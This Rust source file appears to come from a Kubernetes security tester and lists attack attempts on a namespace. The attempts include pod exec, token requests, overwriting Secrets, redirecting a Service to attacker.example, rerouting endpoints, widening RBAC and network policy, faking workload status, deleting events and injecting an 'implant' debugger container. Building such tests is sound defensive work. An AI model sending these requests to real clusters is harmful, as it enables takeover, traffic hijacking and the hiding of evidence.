//! What gets in: into processes, by addresses, by tokens and rights, through what gates read, and to the data.

use serde_json::json;

use crate::attack::attempt::{Ask, Attack, FENCE, attack};

/// The attacks on one namespace. `pod`: one that is in it.
pub fn attacks(namespace: &str, pod: &str) -> Vec<Attack> {
    let at = |version: &str, rest: &str| {
        format!("{}/namespaces/{namespace}/{rest}", crate::attack::served::root(version))
    };
    let core = |rest: &str| at("v1", rest);
    let of = |sub: &str| core(&format!("pods/{pod}/{sub}"));
    let net = |rest: &str| at("networking.k8s.io/v1", rest);
    let rbac = |rest: &str| at("rbac.authorization.k8s.io/v1", rest);
    let (get, post) = (|| Ask::Connect(http::Method::GET), || Ask::Connect(http::Method::POST));
    let debugger = json!([{"name": "debugger", "image": "registry.example/implant"}]);
    let eviction = json!({"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": pod}});
    let binding = json!({"apiVersion": "v1", "kind": "Binding", "metadata": {"name": pod}, "target": {"kind": "Node", "name": "node-1"}});
    let token =
        json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"audiences": []}});
    let secret = json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": "attack-new", "annotations": {"kubernetes.io/service-account.name": "default"}}});
    let service = json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "attack-new"},
        "spec": {"type": "LoadBalancer", "selector": {"app": "web"}, "ports": [{"port": 80}]}});
    let outside = json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "attack-out"},
        "spec": {"type": "ExternalName", "externalName": "attacker.example"}});
    let slice = json!({"apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "metadata": {"name": "attack-new", "labels": {"kubernetes.io/service-name": "web"}},
        "addressType": "IPv4", "endpoints": [{"addresses": ["203.0.113.66"]}], "ports": [{"port": 80}]});
    let ingress = json!({"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "attack-new"},
        "spec": {"defaultBackend": {"service": {"name": "web", "port": {"number": 80}}}}});
    let route = json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "HTTPRoute", "metadata": {"name": "attack-new"}, "spec": {}});
    let allow = json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "attack-new"},
        "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]}});
    // Of rights that whoever asks has: what they have not RBAC refuses first.
    let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "attack-new"},
        "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]});
    let bound = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "attack-new"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "reader"},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": namespace}]});
    let claim = json!({"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "attack-new"},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}});
    let snapshot = json!({"apiVersion": "snapshot.storage.k8s.io/v1", "kind": "VolumeSnapshot", "metadata": {"name": "attack-new"},
        "spec": {"source": {"persistentVolumeClaimName": "data"}}});
    let well = json!({"status": {"availableReplicas": 7, "readyReplicas": 7, "replicas": 7}});
    let stripped = json!({"metadata": {"finalizers": null}});
    let named = |name: &str, path, ask| attack(name, path, ask, FENCE);
    let mut all = vec![
        named("run a command in a pod", format!("{}?command=id&stdout=true", of("exec")), post()),
        named(
            "run a command in a pod, by a web socket",
            format!("{}?command=id&stdout=true", of("exec")),
            get(),
        ),
        named("attach to a pod", format!("{}?stdout=true", of("attach")), post()),
        named("forward a port", of("portforward"), post()),
        named("forward a port, by a web socket", format!("{}?ports=80", of("portforward")), get()),
        named("reach a pod through the API server", of("proxy/"), get()),
        named("reach a Service through the API server", core("services/web/proxy/"), get()),
        named("evict a pod", of("eviction"), Ask::Create(eviction)),
        named("bind a new pod to a node", of("binding"), Ask::Create(binding.clone())),
        named("bind a new pod to a node, the old way", core("bindings"), Ask::Create(binding)),
        named("ask for a token", core("serviceaccounts/default/token"), Ask::Create(token)),
        named("create a token Secret", core("secrets"), Ask::Create(secret)),
        named(
            "change a Secret",
            core("secrets/password"),
            Ask::Merge(json!({"stringData": {"password": "known"}})),
        ),
        named(
            "change a ConfigMap",
            core("configmaps/settings"),
            Ask::Merge(json!({"data": {"greeting": "attacked"}})),
        ),
        named(
            "let an account pull elsewhere",
            core("serviceaccounts/default"),
            Ask::Merge(json!({"imagePullSecrets": [{"name": "attacker"}]})),
        ),
        named("delete an account", core("serviceaccounts/web"), Ask::Delete),
        named("create a new Service", core("services"), Ask::Create(service)),
        named("create a new Service that leads outside", core("services"), Ask::Create(outside)),
        named(
            "open a Service to the world",
            core("services/web"),
            Ask::Merge(json!({"spec": {"type": "NodePort"}})),
        ),
        named("create a new EndpointSlice", at("discovery.k8s.io/v1", "endpointslices"), Ask::Create(slice)),
        named(
            "change Endpoints",
            core("endpoints/elsewhere"),
            Ask::Merge(json!({"subsets": [{"addresses": [{"ip": "203.0.113.66"}]}]})),
        ),
        named("create a new Ingress", net("ingresses"), Ask::Create(ingress)),
        named("create a new HTTPRoute", at("gateway.networking.k8s.io/v1", "httproutes"), Ask::Create(route)),
        named("allow all traffic", net("networkpolicies"), Ask::Create(allow)),
        named("delete all network policies", net("networkpolicies"), Ask::DeleteAll),
        named("create a new Role", rbac("roles"), Ask::Create(role)),
        named("create a new RoleBinding", rbac("rolebindings"), Ask::Create(bound)),
        named("create a new volume claim", core("persistentvolumeclaims"), Ask::Create(claim)),
        named("delete a volume claim", core("persistentvolumeclaims/data"), Ask::Delete),
        named(
            "strip a volume claim of its protection",
            core("persistentvolumeclaims/data"),
            Ask::Merge(stripped.clone()),
        ),
        named(
            "snapshot a volume claim",
            at("snapshot.storage.k8s.io/v1", "volumesnapshots"),
            Ask::Create(snapshot),
        ),
        named("strip a pod of its finalizers", core(&format!("pods/{pod}")), Ask::Merge(stripped)),
        named(
            "say that a pod is ready",
            of("status"),
            Ask::Merge(
                json!({"status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]}}),
            ),
        ),
        named(
            "say that a Deployment is up",
            at("apps/v1", "deployments/web/status"),
            Ask::Merge(well.clone()),
        ),
        named(
            "say that a StatefulSet is up",
            at("apps/v1", "statefulsets/db/status"),
            Ask::Merge(well.clone()),
        ),
        named(
            "say that a Job has succeeded",
            at("batch/v1", "jobs/import/status"),
            Ask::Merge(json!({"status": {"succeeded": 1}})),
        ),
        named(
            "say that a custom resource is well",
            at("db.example/v1", "databases/main/status"),
            Ask::Merge(well),
        ),
        named(
            "take a lease",
            at("coordination.k8s.io/v1", "leases/leader"),
            Ask::Merge(json!({"spec": {"holderIdentity": "attacker"}})),
        ),
        named("delete the events", core("events"), Ask::DeleteAll),
        named("delete the events, by their own group", at("events.k8s.io/v1", "events"), Ask::DeleteAll),
    ];
    // There has to be a pod that runs.
    if pod == "bare" {
        let into = json!({"spec": {"ephemeralContainers": debugger}});
        all.push(named("put a debugger into a pod", of("ephemeralcontainers"), Ask::Merge(into)));
        all.push(named("resize a pod", of("resize"), Ask::Json(json!([{"op": "replace", "path": "/spec/containers/0/resources/requests/cpu", "value": "2m"}]))));
    }
    all
}
